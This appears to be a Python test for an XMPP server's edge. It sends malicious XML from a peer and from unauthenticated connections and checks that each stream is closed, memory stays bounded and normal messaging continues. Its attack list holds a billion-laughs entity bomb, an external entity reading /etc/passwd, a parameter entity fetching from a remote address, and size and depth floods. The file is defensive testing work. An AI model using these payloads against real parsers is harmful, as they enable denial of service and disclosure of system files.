"""XML that wants to exhaust or confuse the edge, from a proven peer and from strangers: the limits
close that stream, memory stays bounded, and everybody else goes on."""

from lib.peer import conditions, header, message
from lib.process import together

FROM_TO = "from='x@attacker.example' to='alice@home.example'"
OPEN = f"<message {FROM_TO}>"
LAUGHS = ("<!DOCTYPE lolz [<!ENTITY a 'lol'>" + "".join(
    f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)) + "]>")
ATTACKS = [  # from a proven peer
    ("entities that multiply", LAUGHS + OPEN + "<body>&j;</body></message>", "restricted-xml"),
    ("an entity", OPEN + "<body>&a;</body></message>", "restricted-xml"),
    ("an external entity", "<!DOCTYPE x SYSTEM 'file:///etc/passwd'>", "restricted-xml"),
    ("a parameter entity", "<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://198.51.100.1/'>%p;]>",
     "restricted-xml"),
    ("a comment in a stanza", OPEN + "<!-- x --></message>", "restricted-xml"),
    ("a character that is none", OPEN + "<body>&#0;</body></message>", "not-well-formed"),
    ("a reference to U+FFFF", OPEN + "<body>&#xFFFF;</body></message>", "not-well-formed"),
    ("a stanza without end", OPEN + "<body>" + "x" * 600_000, "policy-violation"),
    ("depth 480,000", OPEN + "<a>" * 160_000, "policy-violation"),
    ("depth 65", OPEN + "<a>" * 65 + "</a>" * 65 + "</message>", "policy-violation"),
    ("100,000 children", OPEN + "<a/>" * 100_000, "policy-violation"),
    ("65 attributes", "<message " + " ".join(f"a{n}='1'" for n in range(63)) + f" {FROM_TO}/>",
     "policy-violation"),
    ("40,000 attributes", "<message " + " ".join(f"a{n}=''" for n in range(40_000)),
     "policy-violation"),
    ("a name of 1,025 bytes", OPEN + "<" + "a" * 1025 + "/></message>", "policy-violation"),
    ("a name without end", OPEN + "<" + "a" * 400_000, "policy-violation"),
    ("an attribute without end", OPEN + "<a b='" + "x" * 600_000, "policy-violation"),
    ("white space without end", " " * 600_000, "policy-violation"),
]
WITHIN = [  # what the limits just allow
    ("depth 64", "<a xmlns='urn:x'>" + "<a>" * 61 + "</a>" * 61 + "</a>"),
    ("10,000 children", "<a xmlns='urn:x'>" + "<a/>" * 10_000 + "</a>"),
    ("60 attributes", "<a xmlns='urn:x' " + " ".join(f"a{n}='1'" for n in range(60)) + "/>"),
]
STRANGERS = 60
MEMORY_LIMIT = 24 << 20  # above what it was, whatever they sent


async def run(stage):
    alice, bob, _ = await stage.alice_and_the_world()
    alice.say(bob.boundjid.full, "before")
    await bob.message("before")
    bob.say(alice.boundjid.full, "before")
    await alice.message("before")
    peer = await stage.peer("attacker.example")
    before = stage.edge.memory()
    marks = stage.site.marks()

    await together(*(within(peer, alice, *row) for row in WITHIN))
    await together(*(attack(peer, *row) for row in ATTACKS))
    strangers = await together(*(stranger(peer) for _ in range(STRANGERS)))
    grown = stage.edge.memory() - before
    assert grown < MEMORY_LIMIT, f"{grown >> 20} MiB more than before"
    for stream in strangers:
        stream.abort()

    alice.say(bob.boundjid.full, "after")
    await bob.message("after")
    bob.say(alice.boundjid.full, "after")
    await alice.message("after")
    for node in stage.site.nodes:
        for name in ("process.died", "link.down"):
            assert not node.events(name, since=marks[node.name]), f"{node.name}: {name}"


async def attack(peer, what, text, condition):
    stream = await peer.proven("home.example")
    stream.send(text)
    await stream.end()
    got = conditions(stream.raw)
    # A reset may overtake the answer while we are still sending.
    assert got == condition or (got is None and len(text) > 65536), f"{what}: {stream.tail()}"


async def within(peer, alice, what, payload):
    stream = await peer.proven("home.example")
    stream.send(message("x@attacker.example", alice.boundjid.full, what)
                .replace("</message>", payload + "</message>"))
    await alice.message(what)


async def stranger(peer):
    """Sends as much as it may without being authenticated, and stays."""
    stream = await peer.dial()
    stream.send(header(from_="attacker.example", to="home.example"))
    await stream.element("features")
    stream.send("<starttls xmlns='" + "x" * 7000)
    return stream
